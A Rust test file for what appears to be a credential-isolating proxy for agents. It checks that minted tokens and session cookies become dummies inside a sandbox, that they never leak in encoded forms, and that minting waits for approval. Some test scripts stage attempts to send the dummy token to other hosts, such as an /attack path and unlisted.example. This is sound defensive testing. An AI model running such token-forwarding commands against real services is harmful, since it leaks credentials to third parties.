//! What an answer hands out that is a credential itself stays outside: inside stands a dummy, which opens its own resource for its own session
//! and nothing else. Judged by what the upstreams saw, and by all that ever was inside.

use bailiwick_testkit::upstream::{MINTED, SESSION};
use bailiwick_testkit::world::TOKEN;
use bailiwick_testkit::{Upstream, World};
use serde_json::Value;

const ROUTES: &str = r#"
[[route]]
method = "POST"
path = "/mint"
operation = "service.mint"
effects = ["identity"]
mints = { fields = ["/token"] }

[[route]]
method = "POST"
path = "/login"
operation = "service.login"
effects = ["identity"]
mints = { cookies = true }
"#;

/// Nobody is asked here: what is captured does not rest on a person.
const POLICY: &str = "permit (principal, action, resource);\n";

/// A service that mints, another that does not, and no guardrails.
fn minting() -> (World, Upstream, Upstream) {
    let world = World::new();
    world.home.write("bailiwick.toml", "[policy]\npreset = \"none\"\n");
    world.home.write("policies/own.cedar", POLICY);
    let (service, other) = (Upstream::secure(&world.ca), Upstream::secure(&world.ca));
    declare(&world, &service);
    world.add_open("other", &other.url(""), "http");
    (world, service, other)
}

fn declare(world: &World, service: &Upstream) {
    world.add("service", &service.url(""), "http");
    let file = world.home.path().join("resources/service.toml");
    let text = std::fs::read_to_string(&file).unwrap() + ROUTES;
    std::fs::write(&file, text).unwrap();
    // Adding one has the daemon take all files that are there.
    world.add_open("unused", "https://unused.example", "http");
}

/// Shell: mints, and has the dummy in `$token`.
fn minted(service: &Upstream) -> String {
    format!(
        "token=$(curl -sS -X POST {} | /usr/bin/python3 -c 'import json, sys; print(json.load(sys.stdin)[\"token\"])')\n",
        service.url("/mint?how=split")
    )
}

fn codes(output: &str) -> Vec<&str> {
    output.lines().filter_map(|line| line.strip_prefix("code ")).collect()
}

/// curl arguments that print the status alone.
const CODE: &str = "-o /dev/null -w 'code %{http_code}\\n'";

fn log(world: &World) -> Vec<Value> {
    world.bailiwick().run(["log", "--json"]).ok().ndjson()
}

#[test]
fn what_is_minted_is_a_dummy_inside_and_opens_its_resource() {
    let (world, service, _) = minting();
    let script = minted(&service)
        + &format!(
            "echo \"token $token\"\n\
             curl -sS -H \"Authorization: Bearer $token\" {0}\n\
             curl -sS --http1.1 -u \"x-access-token:$token\" {1}\n\
             curl -sS {2}\n",
            service.url("/bearer"),
            service.url("/basic"),
            service.url("/own")
        );
    let output = world.script(&script).ok().stdout();
    let dummy = output.lines().find_map(|line| line.strip_prefix("token ")).unwrap();
    assert!(dummy.starts_with("ghp_") && dummy.len() == MINTED.len() && dummy != MINTED, "{output}");
    assert!(!output.contains(MINTED), "{output}");

    let seen = service.seen();
    let with = |path: &str| {
        let request = seen.iter().find(|seen| seen.path() == path).unwrap();
        assert_eq!(request.headers.get_all("authorization").iter().count(), 1);
        assert!(!request.mentions(dummy), "{request:#?}");
        request.header("authorization")
    };
    assert_eq!(with("/mint"), format!("Bearer {TOKEN}"));
    assert_eq!(with("/bearer"), format!("Bearer {MINTED}"));
    assert_eq!(
        with("/basic"),
        "Basic eC1hY2Nlc3MtdG9rZW46Z2hwX01BUktFUm1pbnRlZDAxMjM0NTY3ODlhYmNkZWZnaGlqa2xtbg=="
    );
    assert_eq!(with("/own"), format!("Bearer {TOKEN}"));

    let export = world.bailiwick().run(["ledger", "export"]).ok().stdout();
    assert!(!export.contains(MINTED) && export.contains("\"captured\":{\"fields\":1}"), "{export}");
    let used = log(&world).into_iter().find(|row| row["target"] == "/bearer").unwrap();
    let told = world.bailiwick().run(["explain", used["act"].as_str().unwrap()]).ok().stdout();
    assert!(told.contains("captured credential service.mint of act_"), "{told}");
    let made = log(&world).into_iter().find(|row| row["operation"] == "service.mint").unwrap();
    let told = world.bailiwick().run(["explain", made["act"].as_str().unwrap()]).ok().stdout();
    assert!(
        told.contains("static credential service") && told.contains("captured: 1 in its fields"),
        "{told}"
    );
}

#[test]
fn it_is_in_no_other_place_of_the_answer_nor_in_a_later_one() {
    let (world, service, _) = minting();
    let script = format!(
        "for v in 1.1 2; do curl -sSi --http$v -X POST '{0}'; curl -sSi --raw --http$v -X POST '{0}?how=split'; done\n{1}\
         for as in 'raw&split=1' 'base64&split=1' hex url json-escaped; do\n\
           curl -sS -H \"Authorization: Bearer $token\" \"{2}?as=$as\"; echo\n\
         done\ncurl -sS -d '{3}' {4}\necho ; echo the end",
        service.url("/mint"),
        minted(&service),
        service.url("/reveal"),
        // The attacker does not know it; this stands for a service that says it by itself.
        format_args!("you made {MINTED}"),
        service.url("/echo")
    );
    let output = world.script(&script).ok().stdout();
    assert!(output.ends_with("the end\n"), "{output}");
    for form in [
        MINTED.to_owned(),
        hex::encode(MINTED),
        "Z2hwX01BUktFUm1pbnRlZDAx".to_owned(),
        "bWludGVkMDEyMzQ1".to_owned(),
    ] {
        assert!(!output.contains(&form), "{form} is inside:\n{output}");
    }
    assert!(!output.to_ascii_lowercase().contains("%67%68%70%5f%4d"), "{output}");
    for gone in ["etag:", "content-digest:", "set-cookie:"] {
        assert!(!output.to_ascii_lowercase().contains(gone), "{output}");
    }
    assert_eq!(service.seen().iter().filter(|seen| seen.path() == "/reveal").count(), 5);
    // Its length is that of what goes on.
    assert_eq!(output.matches("\"id\":7").count(), 2, "{output}");
}

#[test]
fn what_cannot_be_captured_does_not_come_inside() {
    let (world, service, _) = minting();
    let hows = ["gzip", "hidden", "huge", "twice", "text", "elsewhere", "list", "events"];
    let mut script = format!("curl -sS {}\n", service.url("/control"));
    for how in hows {
        script += &format!(
            "curl -sS --compressed -X POST -w '\\ncode %{{http_code}}\\n' '{}?how={how}'\n",
            service.url("/mint")
        );
    }
    let output = world.script(&script).ok().stdout();
    assert_eq!(codes(&output), ["502"; 8], "{output}");
    assert!(!output.contains(MINTED) && output.contains("resources/service.toml"), "{output}");
    assert_eq!(service.seen().iter().filter(|seen| seen.path() == "/mint").count(), hows.len());
    let failed = log(&world)
        .iter()
        .filter(|row| row["operation"] == "service.mint" && row["outcome"] == "failed")
        .count();
    assert_eq!(failed, hows.len());
}

#[test]
fn an_error_passes_and_what_it_hands_out_does_not() {
    let (world, service, _) = minting();
    let script: String = ["not-yet", "error", "many"]
        .map(|how| format!("curl -sS -X POST '{}?how={how}'\n", service.url("/mint")))
        .concat();
    let output = world.script(&script).ok().stdout();
    assert!(output.contains("pending") && output.matches("\"token\":").count() == 2, "{output:.2000}");
    assert!(!output.contains(MINTED), "{output:.2000}");
}

#[test]
fn a_dummy_opens_nothing_elsewhere() {
    let (world, service, other) = minting();
    let script = minted(&service)
        + &format!(
            "echo \"$token\" > token\n\
             curl -sS -H \"Authorization: Bearer $token\" {CODE} {0}\n\
             curl -sS -H \"X-Note: $token\" {CODE} {0}\n\
             curl -sS {CODE} \"{0}?note=$token\"\n\
             curl -sS -H \"Cookie: a=$token\" {CODE} {0}\n\
             curl -sS -H \"Authorization: Bearer $token\" {CODE} https://unlisted.example/\n\
             curl -sS -H \"Authorization: MARKERattackers $token\" {CODE} {1}\n\
             curl -sS -H \"Cookie: sid=$token\" {CODE} {1}\n\
             curl -sS {CODE} {0}-control\n",
            other.url("/attack"),
            service.url("/attack"),
        );
    let output = world.script(&script).ok().stdout();
    assert_eq!(codes(&output), ["403", "403", "403", "403", "403", "403", "403", "200"], "{output}");
    let arrived = |upstream: &Upstream| upstream.seen().iter().any(|seen| seen.path() == "/attack");
    assert!(!arrived(&other) && !arrived(&service));
    let alarmed = log(&world)
        .iter()
        .filter(|row| row["reason"].as_str().is_some_and(|why| why.contains("dummy")))
        .count();
    assert!(alarmed >= 6, "{:#?}", log(&world));

    // Another session has the dummy's text, and nothing else: the resource's own credential goes, as with any token that an agent brings.
    world
        .script(&format!("curl -sS -H \"Authorization: Bearer $(cat token)\" {}", service.url("/another")))
        .ok();
    let seen = service.seen();
    let another = seen.iter().find(|seen| seen.path() == "/another").unwrap();
    assert_eq!(another.header("authorization"), format!("Bearer {TOKEN}"));
}

#[test]
fn a_cookie_is_a_dummy_inside_and_goes_back_to_its_service() {
    let (world, service, other) = minting();
    let script = format!(
        "curl -sSi -c jar -X POST {0}\ncat jar\n\
         curl -sS -b jar {CODE} {1}\n\
         curl -sS -b jar -b other=MARKERattackers {CODE} {1}-mixed\n\
         sid=$(awk '$6 == \"sid\" {{ print $7 }}' jar)\n\
         curl -sS -H \"Cookie: sid=$sid; other=MARKERattackers\" {CODE} {1}-mixed\n\
         curl -sS -H \"Cookie: sid=$sid\" {CODE} {2}\n",
        service.url("/login"),
        service.url("/home"),
        other.url("/attack"),
    );
    let output = world.script(&script).ok().stdout();
    assert!(!output.contains(SESSION), "{output}");
    assert!(output.contains("Path=/; HttpOnly") || output.contains("path=/; httponly"), "{output}");
    assert!(output.contains("Max-Age=0") && !output.contains("lang=en"), "{output}");
    assert_eq!(codes(&output).last(), Some(&"403"), "{output}");
    let seen = service.seen();
    let cookie = |path: &str| {
        seen.iter()
            .find(|seen| seen.path() == path)
            .map(|seen| (seen.header("cookie"), seen.header("authorization")))
    };
    let own = Some((format!("sid={SESSION}"), String::new()));
    assert_eq!(cookie("/home"), own, "{output}");
    assert_eq!(cookie("/home-mixed"), own, "{output}");
    assert!(other.seen().iter().all(|seen| seen.path() != "/attack"));
    let export = world.bailiwick().run(["ledger", "export"]).ok().stdout();
    assert!(!export.contains(SESSION) && export.contains("\"captured\":{\"cookies\":1}"), "{export}");
}

#[test]
fn minting_waits_for_a_person_as_ever() {
    let world = World::new();
    world.home.write("bailiwick.toml", "[approval]\nwait = '300ms'\n");
    let service = Upstream::secure(&world.ca);
    declare(&world, &service);
    let script = format!(
        "curl -sS {CODE} {}\ncurl -sS {CODE} -X POST {}\n",
        service.url("/control"),
        service.url("/mint")
    );
    let output = world.script(&script).ok().stdout();
    assert_eq!(codes(&output), ["200", "403"], "{output}");
    assert!(service.seen().iter().all(|seen| seen.path() != "/mint"));
    assert!(log(&world).iter().any(|row| row["operation"] == "service.mint" && row["decision"] == "hold"));
}
